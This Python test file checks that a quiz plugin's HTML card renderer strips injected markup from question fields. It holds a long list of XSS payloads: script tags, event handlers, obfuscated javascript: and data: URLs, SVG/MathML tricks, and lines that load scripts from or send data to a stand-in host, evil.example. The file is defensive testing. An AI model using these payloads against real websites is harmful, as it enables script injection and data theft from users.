"""Nothing that a contributor writes into a question can run in a reader's browser or break the card."""

import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from quiz_plugin.bank import Question, Section
from quiz_plugin.render.card import CardRenderer
from quiz_plugin.render.words import Words
from tests.render.samples import bank, multi, option, parse, render, same, true_false

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script that never ends": "<script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after a null": "<scr\\0ipt>alert(1)</scr\\0ipt>",
    "module": '<script type="module">import "https://evil.example/x.js"</script>',
    "data island": '<script type="application/json" id="qz-strings">{}</script>',
    "image handler": "<img src=x onerror=alert(1)>",
    "image handler with slashes": "<img/src=x/onerror=alert(1)//",
    "image with a broken quote": '<img src="x` `<script>alert(1)</script>"` `>',
    "body handler": "<body onload=alert(1)>",
    "handler on our tags": '<p onclick="alert(1)">a</p><em onmouseover=alert(1)>b</em>',
    "handler on a span": '<span class="k" onfocus="alert(1)" tabindex="0" autofocus>a</span>',
    "handler across lines": "<strong\nonpointerenter\n=\nalert(1)>a</strong>",
    "details": "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "input": "<input autofocus onfocus=alert(1) name=q-many-right value=x>",
    "button": "<button formaction=javascript:alert(1)>a</button>",
    "select": "<select autofocus onfocus=alert(1)><option>a</option></select>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1) autoplay>",
    "marquee": "<marquee onstart=alert(1)>a</marquee>",
    "custom element": "<x-y onclick=alert(1) is=qz>a</x-y>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "javascript": '<a href="javascript:alert(1)">a</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">a</a>',
    "javascript after space": '<a href=" \t javascript:alert(1)">a</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript with an encoded tab": '<a href="java&#9;script:alert(1)">a</a>',
    "javascript with a line break": '<a href="java&NewLine;script&colon;alert(1)">a</a>',
    "javascript in decimal": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    "javascript in hexadecimal": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
    "javascript after a control character": '<a href="&#1;javascript:alert(1)">a</a>',
    "javascript after a hole": '<a href="&#x1e;javascript:alert(1)">a</a>',
    "javascript around a hole": '<a href="java&#x1d;script:alert(1)">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "data in base 64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    "blob, file and ftp": '<a href="blob:x">a</a><a href="file:///x">b</a><a href="ftp://evil.example/">c</a>',
    "ping and target": '<a href="https://example.org/" ping="https://evil.example/" target="_top" download>a</a>',
    "markdown javascript": "[a](javascript:alert(1))",
    "markdown javascript in angle brackets": "[a](<javascript:alert(1)>)",
    "markdown javascript with entities": "[a](java&#115;cript:alert(1))",
    "markdown javascript in capitals": "[a](JAVASCRIPT:alert`1`)",
    "markdown data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown image": "![a](https://evil.example/track.png)",
    "markdown image with script": '![a](x"onerror="alert(1))',
    "markdown title": "[a](https://example.org/ \"x\\\" onmouseover='alert(1)'\")",
    "markdown reference": "[a][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)>",
    "markdown attributes": "a {: onclick=alert(1) style=color:red }",
    "markdown code": "```{.python onclick=alert(1)}\nx\n```",
    "markdown code with markup": '```html\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`',
    "svg": "<svg onload=alert(1)><g/onload=alert(2)></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script in character data": "<svg><![CDATA[><script>alert(1)</script>]]></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>a</text></a></svg>',
    "svg use": '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
    "svg style": "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "math link": '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">a</mi></math>',
    "math action": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">a</maction></math>',
    "math glyph": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img onerror=alert(1)&gt;\">",
    "math annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>',
    "math and style": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with a document": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="x"></applet>',
    "style": "<style>*{background:url(https://evil.example/)}</style>",
    "style attribute": '<p style="background:url(javascript:alert(1));position:fixed;inset:0">a</p>',
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "meta": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=a></form>',
    "form that closes ours": "</form></fieldset><form action=javascript:alert(1)><input type=submit>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "closing tags": "</p></div></li></ul></fieldset></form></details></article></body></html><h1>a</h1>",
    "opening tags": "<article class=qz><details open><fieldset><form><ul><li><p>",
    "an article of its own": '<article class="qz" id="q-many-right"><h1 id="q-many-right--title">a</h1></article>',
    "ids and names that clash": '<span id="q-many-right--stem">a</span><a name="qz-strings">b</a><b id="qz-key">c',
    "our own classes": '<span class="qz-key">Z</span><span class="qz-txt md-nav">a</span><p class="qz-ca">b</p>',
    "marks of the key": '<li data-opt="south" data-ok class="qz-opt">a</li>',
    "comment": "<!-- a --><!--><img src=x onerror=alert(1)>--><!--",
    "comment with a bang": "<!--a--!><img src=x onerror=alert(1)>",
    "declaration": "<!DOCTYPE html><![CDATA[ <script>alert(1)</script> ]]><?xml version='1.0'?>",
    "text area": "<textarea><script>alert(1)</script></textarea></textarea><img src=x onerror=alert(1)>",
    "title": "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "plain text": "<plaintext>",
    "raw text": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "double encoding": "&amp;lt;script&amp;gt;alert(1)&lt;/script&gt;",
    "quotes": "\"' onmouseover=alert(1) x=\"'><img src=x onerror=alert(1)>",
    "template syntax": "{{ ''.__class__ }}{% for x in y %}{{ t('a.show') }}",
    "format syntax": "{key} {key.__class__} {n} {list}",
}  # fmt: skip

FIELDS = ("title", "stem", "option", "why", "hint", "explanation", "code", "syntax", "source")


def question(number: int, field: str, text: str) -> Question:
    """Return a question with `text` in one of its fields, or in all of them."""

    def pick(name: str) -> str:
        return text if field in {name, "all"} else f"A plain {name}."

    north: dict[str, Any] = {"text": same(pick("option")), "why": same(pick("why"))}
    zenith: dict[str, Any] = {"text": None, "code": pick("code"), "syntax": pick("syntax"), "why": same(pick("why"))}
    made = multi(
        id=f"many-{number}",
        title=same(pick("title")),
        stem=same(pick("stem")),
        hints=(same(pick("hint")),),
        explanation=same(f"It starts.\n\n{pick('explanation')}"),
        options=(option("north", correct=True, **north), option("south"), option("zenith", **zenith)),
    )
    source = made.sources[0].model_copy(update={"title": pick("source")})
    return made.model_copy(update={"sources": (source,)})


def attributes(root: Any) -> Iterator[tuple[str, str]]:
    for each in root.iter():
        yield from each.attrib.items()


def tags(root: Any) -> Counter[str]:
    return Counter(each.tag for each in root.iter())


def our_classes(root: Any) -> Counter[str]:
    names = (name for value in root.xpath("descendant-or-self::*/@class") for name in value.split())
    return Counter(name for name in names if name.startswith(("qz", "md")))


PLAIN = parse(render(question(0, "none", "")))
PLAIN_STATEMENT = parse(render(true_false()))
STRUCTURE = ("article", "h3", "form", "fieldset", "legend", "label", "input", "details", "summary")
FORMATTING = {
    "p", "br", "hr", "em", "strong", "del", "sub", "sup", "code", "pre", "span", "div", "ul", "ol", "li", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td", "a", "kbd", "var",
    "math", "mrow", "mi", "mo", "mn", "mtext", "mfrac", "msup", "msub", "msubsup", "msqrt", "mroot", "mover", "munder",
    "munderover", "mspace", "mtable", "mtr", "mtd",
}  # fmt: skip
HARMLESS = {name for card in (PLAIN, PLAIN_STATEMENT) for name, _ in attributes(card)} | {
    "lang", "title", "start", "display", "aria-label", "stretchy", "fence", "separator", "mathvariant",
}  # fmt: skip


def cards(payload: str) -> dict[str, Any]:
    """The card of a question with the payload in each field by turns, and in every field at once."""
    questions = {field: question(number, field, payload) for number, field in enumerate((*FIELDS, "all"))}
    renderer = CardRenderer(bank(*questions.values()), Words.load("en"))
    place: dict[str, Any] = {"level": 3, "number": 4, "base": "../../", "home": False}
    return {field: parse(renderer.card(each.id).html(**place)) for field, each in questions.items()}


def test_only_formatting_is_added_and_nothing_is_lost():
    for payload in PAYLOADS.values():
        for number, (field, card) in enumerate(cards(payload).items()):
            assert set(tags(card) - tags(PLAIN)) <= FORMATTING, field
            assert [tags(card)[tag] for tag in STRUCTURE] == [tags(PLAIN)[tag] for tag in STRUCTURE], field
            assert {name for name, _ in attributes(card)} <= HARMLESS, f"{field}: an attribute that may run something"
            for address in card.xpath(".//@href"):
                seen = re.sub(r"[\x00-\x20]", "", address)
                assert re.match(r"https?://|\.\./\.\./", seen, re.IGNORECASE), (field, address)
            ids = card.xpath("descendant-or-self::*/@id")
            ours = [name.replace("many-0", f"many-{number}") for name in PLAIN.xpath("descendant-or-self::*/@id")]
            # Only a stem of a few words has one.
            assert ids in (ours, [name for name in ours if not name.endswith("--stem")]), field
            assert our_classes(card) == our_classes(PLAIN), field
            assert card.xpath(".//*[@data-ok]/@data-opt") == ["north"], f"{field}: the key"
            assert card.xpath(".//li[.//input]/@data-opt") == ["north", "south", "zenith"], field


def test_a_statement_is_cleaned_as_well():
    for payload in PAYLOADS.values():
        card = parse(render(true_false(stem=same(payload), why=same(payload), title=same(payload))))
        assert {name for name, _ in attributes(card)} <= HARMLESS
        assert set(tags(card) - tags(PLAIN_STATEMENT)) <= FORMATTING
        assert [tags(card)[tag] for tag in STRUCTURE] == [tags(PLAIN_STATEMENT)[tag] for tag in STRUCTURE]


def test_names_of_concepts_and_sections_are_cleaned_as_well():
    for payload in PAYLOADS.values():
        plain = bank(question(0, "none", ""))
        batches, pipelines = plain.concepts
        named = replace(
            plain,
            concepts=(batches, pipelines.model_copy(update={"title": same(payload)})),
            sections={("pipelines", "en"): {"idle-time": Section("idle-time", payload, 7)}},
        )
        card = parse(
            CardRenderer(named, Words.load("en")).card("many-0").html(level=3, number=4, base="../../", home=False)
        )
        assert {name for name, _ in attributes(card)} <= HARMLESS
        assert set(tags(card) - tags(PLAIN)) <= FORMATTING - {"a"}
